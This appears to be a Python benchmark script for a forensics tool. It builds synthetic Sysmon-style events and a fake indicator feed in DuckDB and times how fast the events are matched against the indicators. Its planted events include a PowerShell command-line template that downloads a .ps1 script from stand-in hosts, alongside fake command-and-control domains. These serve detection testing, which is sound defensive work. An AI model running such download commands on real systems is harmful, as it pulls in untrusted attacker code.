"""Indicator matching at scale: synthetic Sysmon-like events in DuckDB against many indicators.

Builds `--events` events (process creations with Hashes, network connections, DNS queries, command
lines) in the columnar layout, `--indicators` indicators (hashes, /32 and /24 networks, domains,
URLs; a known fraction planted in the events), and times `match_indicators`.

Usage:  .venv/bin/python benchmarks/ioc_match.py [--events 500000] [--indicators 100000]
"""

from __future__ import annotations

import argparse
import hashlib
import random
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import duckdb

from casefile.ingest.columnar import write_events
from casefile.models import Event
from casefile.share import IntelStore, import_intel, match_indicators

SYSMON = "Microsoft-Windows-Sysmon/Operational"


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--events", type=int, default=500_000)
    ap.add_argument("--indicators", type=int, default=100_000)
    ap.add_argument("--planted", type=float, default=0.001, help="fraction of events carrying an indicator")
    args = ap.parse_args()
    rnd = random.Random(7)
    t0 = datetime(2022, 7, 15, tzinfo=UTC)

    def sha(n: int) -> str:
        return hashlib.sha256(str(n).encode()).hexdigest()

    bad_hashes = [sha(-n - 1) for n in range(args.indicators // 4)]
    bad_domains = [f"c2-{n}.example" for n in range(args.indicators // 4)]
    bad_urls = [f"http://dl-{n}.example/p.ps1" for n in range(args.indicators // 4)]
    bad_nets = [
        f"198.{n // 256 % 256}.{n % 256}.0/24" for n in range(args.indicators - 3 * (args.indicators // 4))
    ]

    def events() -> list[Event]:
        out = []
        for i in range(args.events):
            planted = rnd.random() < args.planted
            kind = i % 4
            if kind == 0:
                h = rnd.choice(bad_hashes) if planted else sha(i)
                fields = {"Image": f"C:\\p\\{i}.exe", "Hashes": f"MD5={h[:32].upper()},SHA256={h.upper()}"}
                eid = 1
            elif kind == 1:
                ip = (
                    rnd.choice(bad_nets).replace("0/24", "77")
                    if planted
                    else f"10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}"
                )
                fields = {"DestinationIp": ip, "SourceIp": "10.0.0.5"}
                eid = 3
            elif kind == 2:
                fields = {"QueryName": rnd.choice(bad_domains) if planted else f"host-{i}.corp.example"}
                eid = 22
            else:
                url = rnd.choice(bad_urls) if planted else f"http://intranet/{i}"
                fields = {"CommandLine": f"powershell -c iwr {url} -OutFile x.ps1"}
                eid = 1
            out.append(
                Event(
                    t0 + timedelta(seconds=i),
                    "HOST",
                    SYSMON,
                    "p",
                    eid,
                    i,
                    "bench.evtx",
                    {"EventID": eid, **fields},
                )
            )
        return out

    with tempfile.TemporaryDirectory() as tmp:
        con = duckdb.connect(str(Path(tmp) / "events.duckdb"))
        t = time.perf_counter()
        evs = events()
        write_events(con, evs)
        del evs
        print(f"events: {args.events} written in {time.perf_counter() - t:.1f}s")
        feed = Path(tmp) / "iocs.csv"
        with feed.open("w") as f:
            f.write("type,value\n")
            f.writelines(f"sha256,{h}\n" for h in bad_hashes)
            f.writelines(f"domain,{d}\n" for d in bad_domains)
            f.writelines(f"url,{u}\n" for u in bad_urls)
            f.writelines(f"cidr,{n}\n" for n in bad_nets)
        with IntelStore.open(Path(tmp) / "intel.duckdb") as store:
            t = time.perf_counter()
            result = import_intel(store, feed)
            print(f"indicators: {result.indicators_new} imported in {time.perf_counter() - t:.1f}s")
            indicators = store.indicators()
        t = time.perf_counter()
        hits = match_indicators(con, indicators)
        elapsed = time.perf_counter() - t
        print(f"match: {len(hits)} hits in {elapsed:.2f}s ({args.events / elapsed:,.0f} events/s)")


if __name__ == "__main__":
    main()
